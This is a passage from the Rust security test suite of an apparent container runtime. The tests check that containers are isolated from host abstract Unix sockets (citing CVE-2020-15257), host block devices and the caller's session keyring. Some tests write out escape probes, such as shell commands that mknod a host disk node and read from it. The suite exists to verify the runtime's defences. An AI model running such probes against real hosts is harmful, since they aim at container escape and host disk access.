/// own cannot reach the host's (e.g. containerd-shim's API, CVE-2020-15257);
/// one sharing the host network namespace can, which is why that is unsafe.
#[test]
fn abstract_unix_sockets_are_isolated_by_netns() {
    use std::io::Read;
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let name = format!("berth-sec-{}", random_suffix());
    let addr = SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let b = Berth::new(BERTH).unwrap();
    for host_net in [false, true] {
        let mut bundle = Bundle::new(&["/bin/uconnect", &name]).unwrap();
        gcc(
            UCONNECT_C,
            &bundle.rootfs().join("bin/uconnect"),
            &["-static", "-O1"],
        );
        if host_net {
            bundle.config["linux"]["namespaces"]
                .as_array_mut()
                .unwrap()
                .retain(|n| n["type"] != "network");
            bundle.write().unwrap();
        }
        let o = b.run_fg(&bundle, &id("sec-abstract"));
        // A completed connect sits in the listen backlog until accepted.
        let accepted = listener.accept();
        if host_net {
            assert!(o.status.success(), "host netns: {}", all(&o));
            assert_eq!(stdout(&o).trim(), "connected");
            let (mut s, _) = accepted.expect("the host saw no connection");
            s.set_nonblocking(false).unwrap();
            let mut got = String::new();
            s.read_to_string(&mut got).unwrap();
            assert_eq!(got, "hello from the container\n");
        } else {
            assert_eq!(o.status.code(), Some(1), "own netns: {}", all(&o));
            assert!(
                stdout(&o).contains("connect: Connection refused"),
                "{}",
                all(&o)
            );
            assert_eq!(
                accepted.err().map(|e| e.kind()),
                Some(std::io::ErrorKind::WouldBlock),
                "the host accepted a connection from an isolated container"
            );
        }
    }
}

// ---------------------------------------------------------------------------
// 7. Devices
// ---------------------------------------------------------------------------

/// The host's block devices as (name, "major:minor"), those with data first.
fn host_block_devices() -> Vec<(String, String)> {
    let mut v = Vec::new();
    for e in fs::read_dir("/sys/block").unwrap().flatten() {
        if let Ok(dev) = fs::read_to_string(e.path().join("dev")) {
            let size: u64 = fs::read_to_string(e.path().join("size"))
                .ok()
                .and_then(|s| s.trim().parse().ok())
                .unwrap_or(0);
            v.push((
                size == 0,
                e.file_name().to_string_lossy().into_owned(),
                dev.trim().to_string(),
            ));
        }
    }
    assert!(!v.is_empty(), "no block devices on this host");
    v.sort();
    v.into_iter().map(|(_, n, d)| (n, d)).collect()
}

/// The default spec gives no CAP_MKNOD and a /dev with only the standard
/// nodes: no host block device is reachable.
#[test]
fn default_container_cannot_reach_host_block_devices() {
    let devs = host_block_devices();
    let (maj, min) = devs[0].1.split_once(':').unwrap();
    let script = format!(
        "mknod /dev/hostdisk b {maj} {min} && echo MKNOD-OK; mknod /tmp/hostdisk b {maj} {min} && echo MKNOD-OK; ls /dev"
    );
    let mut bundle = Bundle::new(&["sh", "-c", &script]).unwrap();
    bundle.config["root"]["readonly"] = json!(false);
    bundle.write().unwrap();
    let b = Berth::new(BERTH).unwrap();
    let o = b.run_fg(&bundle, &id("sec-dev"));
    assert!(o.status.success(), "{}", all(&o));
    let out = stdout(&o);
    assert!(!out.contains("MKNOD-OK"), "mknod allowed: {}", all(&o));
    let listed: Vec<&str> = out.split_whitespace().collect();
    for (name, _) in &devs {
        assert!(
            !listed.contains(&name.as_str()),
            "host device {name} in /dev: {out}"
        );
    }
    assert!(
        listed.contains(&"null") && listed.contains(&"urandom"),
        "{out}"
    );
}

/// Even with CAP_MKNOD the device cgroup (linux.resources.devices denies
/// everything by default) must stop a container from making and opening a
/// node for a host disk. Only reads are attempted.
#[test]
fn device_cgroup_blocks_host_disks_even_with_cap_mknod() {
    let devs = host_block_devices();
    let (maj, min) = devs[0].1.split_once(':').unwrap();
    let script = format!(
        "mknod /dev/hostdisk b {maj} {min} || {{ echo mknod-refused; exit 0; }}; \
         head -c 512 /dev/hostdisk >/dev/null && echo READ-HOST-DISK || echo open-refused"
    );
    let mut bundle = Bundle::new(&["sh", "-c", &script]).unwrap();
    for set in ["bounding", "effective", "permitted"] {
        bundle.config["process"]["capabilities"][set]
            .as_array_mut()
            .unwrap()
            .push(json!("CAP_MKNOD"));
    }
    bundle.write().unwrap();
    let b = Berth::new(BERTH).unwrap();
    let o = b.run_fg(&bundle, &id("sec-devcg"));
    let out = stdout(&o);
    assert!(
        !out.contains("READ-HOST-DISK"),
        "host disk readable: {}",
        all(&o)
    );
    assert!(
        out.contains("mknod-refused") || out.contains("open-refused"),
        "{}",
        all(&o)
    );
}

// ---------------------------------------------------------------------------
// 8. Session keyrings
// ---------------------------------------------------------------------------

/// Prints the id and description (type;uid;gid;perm;name) of the calling
/// process's session keyring.
const KEYRING_C: &str = r##"
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void) {
    char buf[512];
    long id = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* SESSION */, 0);
    if (id < 0) { perror("keyctl get session keyring"); return 1; }
    long n = syscall(SYS_keyctl, 6 /* DESCRIBE */, id, buf, sizeof buf - 1);
    if (n < 0) { perror("keyctl describe"); return 1; }
    buf[n] = 0;
    printf("%ld %s\n", id, buf);
    return 0;
}
"##;

/// By default a container gets a session keyring of its own, named after
/// it, so it cannot reach the caller's keys; with `--no-new-keyring` it
/// keeps the caller's (here one the test makes and names).
#[test]
fn containers_get_a_new_session_keyring_unless_no_new_keyring() {
    let b = Berth::new(BERTH).unwrap();
    let ours = format!("berth-test-keyring-{}", random_suffix());
    let name = std::ffi::CString::new(ours.clone()).unwrap();
    let run = |flags: &[&str]| {
        let bundle = Bundle::new(&["/keyring"]).unwrap();
        gcc(
            KEYRING_C,
            &bundle.rootfs().join("keyring"),
            &["-static", "-O1", "-w"],
        );
        let cid = id("sec-keyring");
        let mut cmd = b.cmd();
        cmd.arg("run")
            .args(flags)
            .arg("--bundle")
            .arg(bundle.path())
            .arg(&cid)
            .stdin(Stdio::null());
        let ptr = name.as_ptr() as usize;
        // SAFETY: keyctl is a plain syscall; the name outlives the spawn.
        unsafe {
            cmd.pre_exec(move || {
                const KEYCTL_JOIN_SESSION_KEYRING: libc::c_long = 1;
                if libc::syscall(libc::SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, ptr) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let o = cmd.output().unwrap();
        assert!(o.status.success(), "{flags:?}: {}", all(&o));
        let out = stdout(&o);
        let desc = out.trim().split_once(' ').unwrap().1.to_string();
        let name = desc.rsplit(';').next().unwrap().to_string();
        (cid, desc, name)
    };
    let (_, desc, name) = run(&["--no-new-keyring"]);
    assert!(desc.starts_with("keyring;"), "{desc}");
    assert_eq!(
        name, ours,
        "--no-new-keyring: not the caller's keyring: {desc}"
    );
    let (cid, desc, name) = run(&[]);
    assert!(desc.starts_with("keyring;"), "{desc}");
    assert_ne!(
        name, ours,
        "the container shares the caller's keyring: {desc}"
    );
    assert!(
        name.contains(&cid),
        "the new keyring is not named after {cid}: {desc}"
    );
}
